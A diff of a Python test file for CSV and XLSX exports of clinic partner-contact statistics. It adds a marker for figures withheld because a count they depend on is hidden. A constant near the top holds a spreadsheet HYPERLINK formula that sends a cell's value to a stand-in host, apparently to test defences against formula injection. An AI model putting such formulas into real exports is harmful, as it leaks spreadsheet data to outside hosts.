@@ -14,17 +14,19 @@ from flask import Flask
 from flask_babel import force_locale
 
 from partnercontact.statistics.exports import report_csv, report_xlsx
-from partnercontact.statistics.report import NOTHING, Figure, Measure
+from partnercontact.statistics.report import NOTHING, WITHHELD, Figure, Measure
 from tests.statistics.reports_by_hand import line, report, section
 
 FORMULA = '=HYPERLINK("http://example.invalid/?x="&A1,"Klicka")'
 NOTE = "<5: fewer than 5, or hidden so that a number under 5 cannot be worked out from the others."
+WITHHELD_NOTE = "–*: hidden because a count it depends on is hidden."
 HEADER = [
     ["Clinic", "Lindviks mottagning"],
     ["Period", "March 2026"],
     ["Compared with", "February 2026"],
     ["Numbers hidden below", "5"],
     ["<5", NOTE],
+    ["–*", WITHHELD_NOTE],
     [],
     ["Section", "Line", "March 2026", "February 2026", "Change"],
 ]
@@ -35,6 +37,7 @@ CSV_ROWS = [
     ["Consents", "Total", "47", "56", "-9"],
     ["Asked about partner contact", "Share", "68 %", "41 %", "'+27 pp"],
     ["Days to first contact", "Median", "14.5", "–", "–"],
+    ["Days to first contact", "Median of few", "–*", "9", "–*"],
 ]
 XLSX_ROWS = [
     ["Consents", "Given", 40, 44, -4],
@@ -42,6 +45,7 @@ XLSX_ROWS = [
     ["Consents", "Total", 47, 56, -9],
     ["Asked about partner contact", "Share", 68, 41, 27],
     ["Days to first contact", "Median", 14.5, "–", "–"],
+    ["Days to first contact", "Median of few", "–*", 9, "–*"],
 ]
 
 
@@ -72,7 +76,10 @@ def _report(**changes):
         title="Asked about partner contact",
     )
     days = section(
-        [line("median", Figure(14.5), NOTHING)],
+        [
+            line("median", Figure(14.5), NOTHING),
+            line("median of few", WITHHELD, Figure(9), label="Median of few"),
+        ],
         measure=Measure.DAYS,
         key="timing",
         title="Days to first contact",
